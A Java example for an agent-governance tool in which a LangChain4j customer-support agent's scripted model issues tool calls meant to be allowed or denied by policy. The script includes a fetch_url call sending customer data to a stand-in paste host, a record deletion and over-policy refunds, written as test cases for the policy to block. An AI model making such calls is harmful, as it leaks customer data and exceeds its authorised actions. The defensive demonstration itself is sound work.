package dev.faramesh.examples.support;

import dev.langchain4j.model.chat.ChatModel;
import dev.langchain4j.model.openai.OpenAiChatModel;
import dev.langchain4j.service.AiServices;
import java.util.List;

/**
 * A customer-support agent on LangChain4j: it looks customers up in the CRM, reads the help centre,
 * refunds payments and could delete records. Nothing here refers to Faramesh; run it under
 * {@code -javaagent:faramesh.jar} and every tool call, HTTP request and credential read is decided
 * by {@code examples/governance.fms}.
 *
 * <p>Model: {@code openai} (the real service, {@code OPENAI_API_KEY}, optional {@code OPENAI_BASE_URL}
 * and {@code OPENAI_MODEL}) or, by default, {@code scripted}: a built-in model that runs offline and
 * asks for a fixed series of tool calls. Choose with {@code -Dsupport.model=openai|scripted}; under
 * the agent the app cannot tell whether the key is set (it reads a placeholder either way), so the
 * quick start script chooses for it.
 */
public final class SupportAgent {

  static final String REQUEST = "Customer 42 was charged twice for order A-1001 ($150 each) and also wants"
      + " $900 back for a cancelled annual plan. Check the customer, read our refund policy at %s/kb/refunds,"
      + " and refund what policy allows.";

  private SupportAgent() {}

  public static void main(String[] args) throws Exception {
    boolean openai = "openai".equals(System.getProperty("support.model", "scripted"));
    try (Backoffice office = new Backoffice(System.getProperty("crm.token.sha256"))) {
      ChatModel model = openai ? openAi() : new ScriptedModel(script(office.kbUrl()));
      Assistant agent = AiServices.builder(Assistant.class)
          .chatModel(model)
          .tools(new SupportTools(office.crmUrl()))
          .build();
      String request = String.format(REQUEST, office.kbUrl());
      System.out.println("customer request: " + request);
      System.out.println("model: " + (openai ? "OpenAI" : "built-in scripted model (offline)"));
      String answer = agent.chat(request);
      System.out.println("agent answer: " + answer);
      // The same CRM request, made by the app itself outside any tool call: the credential's scope
      // is lookup_customer, so here the request carries the placeholder and the CRM refuses it.
      System.out.println("app's own CRM request, outside any tool call: "
          + SupportTools.get(office.crmUrl() + "/customers/42", "Bearer " + System.getenv("CRM_API_TOKEN")));
    }
  }

  /** What the built-in model asks for: allowed calls, rule and limit denials, a strict deny. */
  static List<ScriptedModel.Call> script(String kbUrl) {
    return List.of(
        new ScriptedModel.Call("lookup_customer", "{\"customerId\":\"42\"}"),
        new ScriptedModel.Call("fetch_url", "{\"url\":\"" + kbUrl + "/kb/refunds\"}"),
        new ScriptedModel.Call("refund_payment", "{\"customerId\":\"42\",\"amount\":150}"),
        new ScriptedModel.Call("refund_payment", "{\"customerId\":\"42\",\"amount\":900}"),
        new ScriptedModel.Call("refund_payment", "{\"customerId\":\"42\",\"amount\":150}"),
        new ScriptedModel.Call("fetch_url", "{\"url\":\"https://paste.example.net/upload?text=customer-42\"}"),
        new ScriptedModel.Call("delete_customer", "{\"customerId\":\"42\"}"),
        new ScriptedModel.Call("lookup_customer", "{\"customerId\":\"7\"}"),
        new ScriptedModel.Call("lookup_customer", "{\"customerId\":\"9\"}"));
  }

  private static ChatModel openAi() {
    // Under the agent the key reads as a placeholder; the agent swaps in the real key on the wire,
    // only for the hosts governance.fms binds the credential to.
    String baseUrl = System.getenv("OPENAI_BASE_URL");
    String modelName = System.getenv("OPENAI_MODEL");
    return OpenAiChatModel.builder()
        .apiKey(System.getenv("OPENAI_API_KEY"))
        .baseUrl(baseUrl == null || baseUrl.isBlank() ? "https://api.openai.com/v1" : baseUrl)
        .modelName(modelName == null || modelName.isBlank() ? "gpt-4o-mini" : modelName)
        .maxRetries(1)
        .build();
  }
}
